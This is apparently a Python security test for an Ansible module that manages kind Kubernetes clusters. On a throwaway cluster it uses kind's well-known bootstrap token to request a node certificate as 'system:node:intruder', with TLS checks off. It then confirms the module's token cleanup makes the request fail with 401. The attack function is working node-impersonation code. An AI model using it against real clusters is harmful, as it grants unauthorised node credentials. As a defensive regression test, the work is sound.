#!/usr/bin/env python
# Copyright: (c) 2026, The gitops.airflow team
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""D1: becomes a node of a kind cluster with kind's well-known bootstrap token, before and after kind_cluster has deleted it.

usage: scripts/with-images tests/attack/bootstrap_token.py [WORKERS]      two by default; about three minutes

On a cluster of its own, which it deletes:
1. kind alone makes the cluster, as an earlier version of the module did: the token gets a node's certificate, signed by the cluster.
2. The module adopts the cluster: the same request is answered with 401. A second run changes nothing.
3. Every node is restarted: all become Ready again.
4. Nothing is left that kubeadm made for joining: no bootstrap token, no uploaded certificates, no signature of cluster-info.
5. The module makes the cluster: the first request is answered with 401.
"""

from __future__ import annotations

import base64
import json
import os
import signal
import ssl
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import yaml
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / ".ansible/collections"))

from ansible_collections.gitops.airflow.plugins.module_utils._kind.client import Engine, Marker  # noqa: E402
from ansible_collections.gitops.airflow.plugins.module_utils._kind.cluster import Cluster, Wanted  # noqa: E402
from ansible_collections.gitops.airflow.plugins.module_utils._kind.config import full_config  # noqa: E402

NAME = "attack-token"
TOKEN = "abcdef.0123456789abcdef"
REQUESTS = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
SECONDS = 180.0


def settings() -> dict[str, Any]:
    """The node image and kind, where scripts/with-images says that they come from the lab."""
    given = os.environ.get("PLATFORM_EXTRA_VARS", "{}")
    return dict(yaml.safe_load(Path(given[1:]).read_text() if given.startswith("@") else given) or {})


def ask(api: tuple[str, str], path: str, body: dict[str, Any] | None = None) -> tuple[int, dict[str, Any]]:
    """Status and answer of a request with the token. The server's certificate does not matter to an attacker."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}
    request = urllib.request.Request(f"https://{api[0]}:{api[1]}{path}", json.dumps(body).encode() if body else None, headers)
    handlers = (urllib.request.HTTPSHandler(context=context), urllib.request.ProxyHandler({}))
    try:
        with urllib.request.build_opener(*handlers).open(request, timeout=10) as answer:
            return answer.status, json.load(answer)
    except urllib.error.HTTPError as error:
        return error.code, {}


def attack(api: tuple[str, str]) -> tuple[int, str]:
    """Asks for the certificate of a node: the answer's status, and the subject of the certificate that the cluster signed."""
    key = ec.generate_private_key(ec.SECP256R1())
    names = [x509.NameAttribute(NameOID.ORGANIZATION_NAME, "system:nodes"), x509.NameAttribute(NameOID.COMMON_NAME, "system:node:intruder")]
    asked = x509.CertificateSigningRequestBuilder().subject_name(x509.Name(names)).sign(key, hashes.SHA256())
    body = {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"generateName": "intruder-"},
        "spec": {
            "request": base64.b64encode(asked.public_bytes(serialization.Encoding.PEM)).decode(),
            "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
            "usages": ["digital signature", "client auth"],
        },
    }
    status, made = ask(api, REQUESTS, body)
    end = time.monotonic() + 30
    while status == 201 and time.monotonic() < end:
        _status, now = ask(api, f"{REQUESTS}/{made['metadata']['name']}")
        if signed := (now.get("status") or {}).get("certificate"):
            return status, x509.load_pem_x509_certificate(base64.b64decode(signed)).subject.rfc4514_string()
        time.sleep(0.5)
    return status, ""


def refused(api: tuple[str, str]) -> bool:
    """Whether the token is refused within 30 s: the API server's own list of tokens is a moment behind."""
    end = time.monotonic() + 30
    while ask(api, REQUESTS)[0] != 401:
        if time.monotonic() >= end:
            return False
        time.sleep(0.2)
    return True


def leftovers(node: str) -> list[str]:
    """What kubeadm makes for joining and what is left of it."""
    kubectl = ["docker", "exec", node, "kubectl", "--kubeconfig", "/etc/kubernetes/admin.conf", "get", "-o", "json"]
    secrets = json.loads(subprocess.check_output([*kubectl, "secrets", "-n", "kube-system"]))["items"]
    info = json.loads(subprocess.check_output([*kubectl, "configmap", "cluster-info", "-n", "kube-public"]))
    found = [item["metadata"]["name"] for item in secrets if item["type"] == "bootstrap.kubernetes.io/token"]
    found += [item["metadata"]["name"] for item in secrets if item["metadata"]["name"] == "kubeadm-certs"]
    return found + [key for key in info["data"] if key.startswith("jws-")]


class Trial:
    def __init__(self, workers: int, folder: str) -> None:
        given = settings()
        self.image = given.get("kind_cluster_node_image", "")
        self.config: dict[str, Any] = {
            "nodes": [{"role": "control-plane"}, *[{"role": "worker"}] * workers],
            "kubeadmConfigPatches": ["kind: KubeletConfiguration\nevictionHard:\n  memory.available: 100Mi\n"],
        }
        self.engine = Engine(NAME, given.get("kind_cluster_kind_binary", "kind"), f"{folder}/kubeconfig")
        self.cluster = Cluster(self.engine, Marker(f"{folder}/state", NAME))
        self.start = time.monotonic()
        self.failed = False

    def expect(self, what: str, found: Any, wanted: Any) -> None:
        self.failed |= found != wanted
        verdict = "ok    " if found == wanted else f"FAILED (expected {wanted!r})"
        print(f"{time.monotonic() - self.start:6.1f} s  {verdict} {what}: {found!r}", flush=True)

    def api(self) -> tuple[str, str]:
        return next(node.api for node in self.engine.nodes() if node.api)

    def run(self) -> None:
        wanted = Wanted(self.config, self.image, [], SECONDS)
        with self.cluster.marker as marker:
            self.engine.create(full_config(NAME, self.config), self.image, marker)
        nodes = self.engine.nodes()
        first = next(node.name for node in nodes if node.role == "control-plane")
        self.engine.wait_ready(nodes, SECONDS)
        print("       what kubeadm left:", ", ".join(leftovers(first)), flush=True)
        self.expect("kind alone: the token's request and certificate", attack(self.api()), (201, "CN=system:node:intruder,O=system:nodes"))
        result = self.cluster.present(wanted)
        self.expect("the module adopts: changed, token deleted", (result["changed"], result["bootstrap_token_deleted"]), (True, True))
        self.expect("the token is refused", refused(self.api()), True)
        self.expect("the token's request and certificate", attack(self.api()), (401, ""))
        result = self.cluster.present(wanted)
        self.expect("a second run: changed, token deleted", (result["changed"], result["bootstrap_token_deleted"]), (False, False))
        subprocess.run(["docker", "restart", *[node.name for node in nodes]], check=True, stdout=subprocess.DEVNULL)
        self.engine.wait_ready(self.engine.nodes(), SECONDS)  # raises where a node does not become Ready
        self.expect("nodes Ready after a restart of each", len(nodes), len(self.config["nodes"]))
        self.expect("what is left for joining", leftovers(first), [])
        self.cluster.absent(self.config)
        self.expect("the module makes the cluster: token deleted", self.cluster.present(wanted)["bootstrap_token_deleted"], True)
        self.expect("the token is refused", refused(self.api()), True)
        self.expect("the token's request and certificate", attack(self.api()), (401, ""))


def main() -> int:
    signal.signal(signal.SIGTERM, signal.default_int_handler)  # the cluster is deleted then, too
    with tempfile.TemporaryDirectory() as folder:
        trial = Trial(int(sys.argv[1]) if sys.argv[1:] else 2, folder)
        if trial.engine.nodes():
            print(f"a kind cluster {NAME} exists. Next: kind delete cluster --name {NAME}", file=sys.stderr)
            return 2
        try:
            trial.run()
        finally:
            trial.cluster.absent(trial.config, delete_foreign=True)
    return int(trial.failed)


if __name__ == "__main__":
    sys.exit(main())
